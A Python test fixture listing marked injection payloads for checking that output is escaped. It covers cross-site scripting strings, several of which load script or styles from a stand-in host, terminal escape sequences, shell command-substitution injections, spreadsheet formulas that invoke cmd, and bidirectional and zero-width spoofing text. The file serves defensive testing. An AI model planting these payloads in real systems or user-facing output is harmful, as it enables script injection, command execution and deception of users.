"""Texts that attack whoever shows them: markup, scripts, terminals, shells, spreadsheets, readers' eyes."""

#: Each holds its own mark, so that it can be found again wherever it is shown.
PAYLOADS = [payload.replace("@@", f"MARK{number:02}") for number, payload in enumerate([
    # Markup and scripts.
    "<script>alert('@@')</script>",
    "<img src=x onerror=alert('@@')>",
    "<svg onload=alert('@@')><circle r=9></svg>",
    "\"><script src=//evil.example/@@.js></script>",
    "<iframe src=javascript:alert('@@')></iframe>",
    "<a href=javascript:alert('@@')>click</a>",
    "javascript:alert('@@')",
    "<meta http-equiv=refresh content=0;url=//evil.example/@@>",
    "<link rel=stylesheet href=//evil.example/@@.css>",
    "<style>*{background:url(//evil.example/@@)}</style>",
    "<form action=//evil.example/@@><button>Send</button></form>",
    "</textarea></pre></code><b>@@</b>",
    "${alert('@@')} {{constructor.constructor('alert(1)')()}}",
    "<base href=//evil.example/@@>",
    "<video><source onerror=alert('@@')></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('@@')>",
    # Terminals.
    "\x1b]52;c;ZXZpbA==\x07 @@",
    "\x1b[2J\x1b[1;1H@@\x1b]0;title\x07",
    "\x9b31m@@\x9d8;;http://evil.example\x9c",
    "\x1b]8;;http://evil.example/@@\x1b\\link\x1b]8;;\x1b\\",
    "@@\r\x08\x08\x08overwritten\x7f",
    # Shells.
    "$(touch @@.pwned)",
    "`touch @@.pwned`; touch @@.pwned",
    "'; touch @@.pwned #",
    "\\'$(touch @@.pwned)\\'\n touch @@.pwned",
    # Spreadsheets.
    "=cmd|' /C calc'!A@@",
    "@SUM(1+1)*cmd|' /C @@'!A0",
    # Eyes: order, width, look-alikes.
    "\u202etxt.exe@@\u202c\u2066x\u2069",
    "@@\u200b\u200d\ufeff\u00ad\U000e0041hidden",
    # Words that mean something to us.
    "***…@@…*** event: cleared\ndata: {}\n\n",
])]


def on_the_wire(payload):
    """As a header value can carry it: without line ends and other control characters, UTF-8 in Latin-1's clothes."""
    plain = "".join(c for c in payload if ord(c) >= 32 and ord(c) != 127 and not 0x80 <= ord(c) < 0xa0)
    return plain.encode().decode("latin-1").strip()


def mark(payload):
    return payload[payload.index("MARK"):][:6]
